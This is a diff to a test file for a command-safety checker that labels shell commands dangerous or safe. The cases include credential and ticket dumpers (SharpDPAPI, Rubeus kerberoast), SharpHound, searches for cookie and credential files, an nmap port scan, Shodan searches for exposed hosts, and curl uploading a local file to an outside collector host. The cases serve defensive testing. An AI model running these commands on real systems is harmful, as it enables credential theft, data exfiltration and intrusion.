@@ -3878,7 +3878,9 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['curl -X DELETE http://localhost:8025/api/v1/messages', false],
     ['curl -d x http://127.0.0.1:8080/f https://collector.example.com/in', true, 'sends data to the network'],
     ['curl -d x api.example.com:8443/in', true, 'sends data to the network'],
-    ['curl --data @notes.txt http://localhost:8080/upload', true, 'uploads a local file'],
+    // A file uploaded only to a server on this machine stays here, as a body does.
+    ['curl --data @notes.txt http://localhost:8080/upload', false],
+    ['curl --data @notes.txt https://collector.example.com/upload', true, 'uploads a local file'],
     // Builds that push, uv's installs into the machine's Python.
     ['docker buildx build --platform linux/amd64 -t user/repo:tag --push .', true, 'pushes the image it builds'],
     ['docker buildx build --output type=image,push=true -t user/repo .', true, 'pushes the image it builds'],
@@ -4041,8 +4043,8 @@ describe('the twelve sets held out last stop: passwords on the command line, sca
     ['./mkspiffs -u /tmp/data -p 256 -b 8192 -s 1028096 out.bin', false],
     ['./client --user admin --password admin --url http://localhost:8080', false],
     // A scan service's index searched or downloaded is a list of exposed hosts to go through; a result parsed stays here.
-    ["zoomeye search 'app:\"atlassian confluence\"' -num 800", true, 'exposed machines'],
-    ["shodan download vbullet-443 'html:\"vbulletin\" port:443'", true, 'exposed machines'],
+    ['zoomeye search \'app:"atlassian confluence"\' -num 800', true, 'exposed machines'],
+    ['shodan download vbullet-443 \'html:"vbulletin" port:443\'', true, 'exposed machines'],
     ['shodan parse vbullet-443.json.gz --fields ip_str', false],
     // Files given to another account; the user's own name read from the shell, or a group alone, is the user's to set.
     ['chown www-data:www-data -R bootstrap/cache storage', true, 'another account'],
@@ -4051,6 +4053,39 @@ describe('the twelve sets held out last stop: passwords on the command line, sca
     // A package script whose `:` steps include publish or deploy.
     ['npm run ci:publish:beta', true, 'publishes or deploys'],
     ['npm run ci:build:beta', false],
+    // An image named for a port scanner runs it; `--link` takes its container's name, before the image.
+    ['docker run --rm -ti --link rabbitmq -v "$PWD":/x:ro k0st/nmap -sT -p- 172.17.0.2', true, 'scans the ports'],
+    ['docker run --rm --link db -v "$PWD":/app node:20 npm test', false],
+    // A Makefile's name for the current directory is the workspace.
+    ['docker run --rm -v $(PWD)/static:/out generator:latest', false],
+    ['cp build/app $(CURDIR)/dist/', false],
+    ['rm -rf $(PWD)/../shared', true, 'outside the workspace'],
+    // Elixir's release is assembled here; melos' publish is a dry run unless told otherwise.
+    ['MIX_ENV=prod mix release', false],
+    ['melos publish', false],
+    ['melos publish --no-dry-run --yes', true, 'reaches past this machine'],
+    // A file uploaded only to a server on this machine stays here.
+    ["./cmdr.py -r | curl -T - -u nanomdm:nanomdm 'http://127.0.0.1:9000/v1/enqueue/E9085AF6'", false],
+    ['curl -T report.txt https://example.com/upload', true, 'uploads a local file'],
+    // Windows' credential and ticket dumpers, and the domain's collector.
+    ['SharpDPAPI.exe machinemasterkeys', true, 'stored passwords and keys'],
+    ['Rubeus.exe kerberoast /outfile:kerberoastables.txt', true, 'stored passwords and keys'],
+    ['SharpHound.exe --collectionmethods All', true, 'other machines'],
+    // Browsers' cookie stores and Erlang's cluster cookie looked for outside the workspace.
+    ['find /data/data -type f -name Cookies', true, 'key or credential files'],
+    ['find / -type f -name ".erlang.cookie" 2>/dev/null', true, 'key or credential files'],
+    ['find . -name Cookies', false],
+    // Lists that attack nothing: nmap's interfaces, airmon-ng's cards; a trap killing the shell's own jobs.
+    ['nmap --iflist', false],
+    ['airmon-ng', false],
+    ['airmon-ng start wlan0', true, 'wireless'],
+    ["trap 'kill $(jobs -p)' EXIT", false],
+    // Global installs and links of pnpm and bun; rosdep's installs go through the machine's package manager.
+    ['bun install -g @napi-rs/cli', true, 'global prefix'],
+    ['pnpm link --global', true, 'global prefix'],
+    ['pnpm link ../shared', false],
+    ['rosdep install --from-paths src --ignore-src -y', true, "machine's installed packages"],
+    ['rosdep install -s ros_comm', false],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
     expect(r.dangerous, r.reasons.join('; ')).toBe(dangerous);
